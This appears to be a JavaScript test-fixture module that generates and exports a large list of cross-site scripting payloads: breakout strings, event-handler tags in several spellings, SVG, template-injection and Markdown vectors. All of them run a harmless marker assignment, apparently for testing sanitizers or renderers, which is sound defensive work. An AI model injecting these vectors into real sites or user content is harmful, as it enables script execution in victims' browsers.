// XSS payloads, generated from contexts to break out of, elements, events and spellings.

const CODE = 'window.__xss=1';
const ELEMENTS = [
  ['img', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['details', 'open', 'ontoggle'],
  ['input', 'autofocus', 'onfocus'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['marquee', '', 'onstart'],
  ['select', 'autofocus', 'onfocus'],
  ['iframe', '', 'onload'],
  ['object', 'data=x', 'onerror'],
  ['a', 'tabindex=1 autofocus', 'onfocus'],
];
const BREAKOUTS = ['', '">', "'>", '</textarea>', '</title>', '</script>', '--></style>', '</option></select>', '\\"/>', ']]>'];
const SPELLINGS = [
  (element, rest, event) => `<${element} ${rest} ${event}=${CODE}>`,
  (element, rest, event) => `<${element}/${rest.replaceAll(' ', '/')}/${event}="${CODE}"//`,
  (element, rest, event) => `<${element.toUpperCase()}\n${rest}\t${event.toUpperCase()}='${CODE}'>`,
];
const ODD = [
  `<script>${CODE}</script>`,
  `</script><script>${CODE}</script>`,
  `<scr<script>ipt>${CODE}</scr</script>ipt>`,
  `<script src=data:,${CODE}></script>`,
  `<script type=module>${CODE}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${CODE}>">`,
  `<template><script>${CODE}</script></template>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${CODE}>`,
  `<svg><animate onbegin=${CODE} attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values=javascript:${CODE} /><text x=20 y=20>x`,
  `<svg><style><img src=x onerror=${CODE}></style>`,
  `<form><button formaction=javascript:${CODE}>x`,
  `<base href=javascript:${CODE}//>`,
  `<meta http-equiv=refresh content="0;url=javascript:${CODE}">`,
  `<link rel=stylesheet href=data:,*{x:expression(${CODE})}>`,
  `<iframe srcdoc="<script>parent.__xss=1</script>">`,
  `<iframe src="javascript:parent.__xss=1">`,
  `<embed src="javascript:${CODE}">`,
  `<isindex action=javascript:${CODE} type=image>`,
  `<div style="background:url(javascript:${CODE})">x</div>`,
  `<x contenteditable autofocus onfocus=${CODE}>`,
  `<a href="javascript:${CODE}">x</a>`,
  `<a href="java&#x0A;script:${CODE}">x</a>`,
  `<a href="data:text/html,<script>opener.__xss=1</script>">x</a>`,
  `<a href=" &#14; javascript:${CODE}">x</a>`,
  `" autofocus onfocus="${CODE}`,
  `' onmouseover='${CODE}`,
  '` onmouseover=`' + CODE,
  `javascript:${CODE}`,
  `{{constructor.constructor('${CODE}')()}}`,
  '${' + CODE + '}',
  `<!--><img src=x onerror=${CODE}>-->`,
  `<![CDATA[<img src=x onerror=${CODE}>]]>`,
  `<?xml version="1.0"?><img src=x onerror=${CODE}>`,
  `\u2028</script><script>${CODE}</script>`,
  `&lt;img src=x onerror=${CODE}&gt;`,
  `%3Cimg src=x onerror=${CODE}%3E`,
  `\\u003cimg src=x onerror=${CODE}\\u003e`,
];
const MARKDOWN = [
  `[x](javascript:${CODE})`,
  `[x](JaVaScRiPt:${CODE})`,
  `[x](java\tscript:${CODE})`,
  `[x](data:text/html,<script>opener.__xss=1</script>)`,
  `[x](vbscript:${CODE})`,
  `![x](javascript:${CODE})`,
  `![x](x"onerror="${CODE})`,
  `![x](x 'onerror=${CODE}')`,
  `<javascript:${CODE}>`,
  `[x]: javascript:${CODE}\n\n[x]`,
  `[x](https://a.test/"onmouseover="${CODE})`,
  `[x](https://a.test 'title" autofocus onfocus="${CODE}')`,
  `\`<img src=x onerror=${CODE}>\``,
  `    <img src=x onerror=${CODE}>`,
  `~~~"><img src=x onerror=${CODE}>\nx\n~~~`,
  `| a |\n|---|\n| <img src=x onerror=${CODE}> |`,
  `> <details open ontoggle=${CODE}>`,
  `1. <svg onload=${CODE}>`,
  `# <script>${CODE}</script>`,
  `*<b onmouseover=${CODE}>x*</b>`,
  `https://a.test/<img/src/onerror=${CODE}>`,
];

const made = BREAKOUTS.flatMap((breakout) =>
  ELEMENTS.flatMap(([element, rest, event]) => SPELLINGS.map((spelling) => breakout + spelling(element, rest, event))),
);
const all = [...new Set([...ODD, ...MARKDOWN, ...made])];

/** All payloads; those for names are one line of at most 100 characters. */
export const payloads = all;
const line = (text) => text.replace(/[\n\t\u2028]/g, ' ').trim();
export const names = payloads.map((payload) => (line(payload).length <= 100 ? line(payload) : `<img src=x onerror=${CODE}>`));
